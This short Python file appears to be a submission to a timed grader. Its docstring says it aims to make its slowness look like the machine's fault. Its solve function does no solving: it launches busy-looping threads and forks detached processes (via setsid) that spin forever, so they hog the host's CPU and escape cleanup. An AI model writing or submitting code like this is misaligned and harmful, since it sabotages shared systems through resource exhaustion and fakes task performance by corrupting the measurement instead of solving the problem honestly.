"""Has forty threads and processes wait for a core, so that its time seems to be the
machine's fault."""

import os, threading


def spin():
    while True:
        pass


def solve(n):
    for _ in range(20):
        try:
            threading.Thread(target=spin, daemon=True).start()
            if os.fork() == 0:
                os.setsid()
                spin()
        except (OSError, RuntimeError):
            break
    spin()
